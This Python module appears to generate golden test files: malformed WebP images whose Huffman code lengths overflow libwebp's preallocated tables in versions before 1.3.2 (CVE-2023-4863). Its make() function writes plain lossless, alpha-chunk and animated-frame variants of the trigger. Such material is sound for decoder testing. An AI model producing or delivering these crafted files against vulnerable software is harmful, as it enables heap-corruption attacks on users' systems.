"""Lossless WebP whose Huffman code lengths need larger tables than libwebp before 1.3.2 allocates (CVE-2023-4863).

make_goldens.py calls make(). libwebp allocates the tables of one group of codes at once, for the largest that complete codes
need, 654 + 3 * 630 + 410 entries. The first four codes of these files are complete and need as much; the fifth is not
complete, and its table goes beyond entry 410. libwebp before 1.3.2 notices that after it has written the table.
"""

import struct

LONGEST = 15
ROOT_BITS = 8
CODE_LENGTH_ORDER = (17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15)
# How many codes have 1, 2, ... 15 bits.
GREEN = (1, 1, 0, 0, 0, 0, 0, 0, 83, 45, 81, 1, 1, 65, 2)
COLOUR = (1, 1, 0, 0, 0, 0, 0, 0, 87, 57, 9, 65, 33, 1, 2)
DISTANCE = {
    "little": (1, 1, 1, 1, 1, 0, 0, 0, 11, 5, 1, 10, 4, 2, 2),
    "much": (0, 0, 0, 0, 0, 0, 0, 0, 21, 5, 1, 1, 1, 1, 10),
}
ALLOCATED = 654 + 3 * 630 + 410


def reversed_bits(value, bits):
    return int(f"{value:0{bits}b}"[::-1], 2)


def written(counts):
    """One more than the highest entry of a code's table that is written: a root table, and tables of a second level."""
    left = [0, *counts]
    start, size, place, prefix, highest = 0, 1 << ROOT_BITS, 0, None, 0
    for bits in range(1, LONGEST + 1):
        while left[bits] > 0:
            below = max(0, bits - ROOT_BITS)
            if below and place >> (LONGEST - ROOT_BITS) != prefix:
                prefix = place >> (LONGEST - ROOT_BITS)
                start += size
                longest, room = bits, (1 << below) - left[bits]
                while longest < LONGEST and room > 0:
                    longest += 1
                    room = 2 * room - left[longest]
                size = 1 << (longest - ROOT_BITS)
            step = below or bits
            key = reversed_bits(place >> (LONGEST - bits) & ((1 << step) - 1), step)
            highest = max(highest, start + size - (1 << step) + key)
            place += 1 << (LONGEST - bits)
            left[bits] -= 1
    assert place <= 1 << LONGEST, "codes must not overlap"
    return highest + 1


class Bits:
    """Bits as VP8L stores them, the lowest first."""

    def __init__(self):
        self.value, self.count = 0, 0

    def put(self, value, bits):
        self.value |= value << self.count
        self.count += bits

    def bytes(self):
        return self.value.to_bytes((self.count + 7) // 8, "little")


def code(out, counts):
    """A code, each of whose lengths is written with four bits."""
    out.put(0, 1)  # no simple code
    out.put(len(CODE_LENGTH_ORDER) - 4, 4)
    for symbol in CODE_LENGTH_ORDER:
        out.put(4 if symbol < 16 else 0, 3)
    out.put(0, 1)  # as many lengths as there are symbols
    for length, count in enumerate(counts, 1):
        for _ in range(count):
            out.put(reversed_bits(length, 4), 4)


def stream(distance, head):
    """The bits of a picture; head: whether signature and size stand before them."""
    assert (sum(GREEN), sum(COLOUR), sum(distance)) == (280, 256, 40)
    assert written(GREEN) + 3 * written(COLOUR) + written(distance) > ALLOCATED
    out = Bits()
    if head:
        for value, bits in ((0x2F, 8), (15, 14), (15, 14), (1, 1), (0, 3)):
            out.put(value, bits)
    out.put(0, 3)  # no transform, no colour cache, one group of codes
    for counts in (GREEN, COLOUR, COLOUR, COLOUR, distance):
        code(out, counts)
    return out.bytes() + bytes(256)


def chunk(name, data):
    return name + struct.pack("<I", len(data)) + data + bytes(len(data) % 2)


def file(*chunks):
    body = b"WEBP" + b"".join(chunks)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def size24(width, height):
    return (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")


def make(put, lossy, width, height):
    """lossy: the VP8 chunk of a picture of this size, whose alpha is over-long too."""
    for name, distance in DISTANCE.items():
        put(f"bad_codes_{name}.webp", file(chunk(b"VP8L", stream(distance, True))))
    alpha = chunk(b"ALPH", b"\x01" + stream(DISTANCE["much"], False))
    flags = struct.pack("<I", 0x10)
    put("bad_codes_alpha.webp", file(chunk(b"VP8X", flags + size24(width, height)), alpha, lossy))
    frame = bytes(6) + size24(16, 16) + (40).to_bytes(3, "little") + b"\0"
    put(
        "bad_codes_frame.webp",
        file(
            chunk(b"VP8X", struct.pack("<I", 0x12) + size24(16, 16)),
            chunk(b"ANIM", bytes(6)),
            chunk(b"ANMF", frame + chunk(b"VP8L", stream(DISTANCE["much"], True))),
        ),
    )
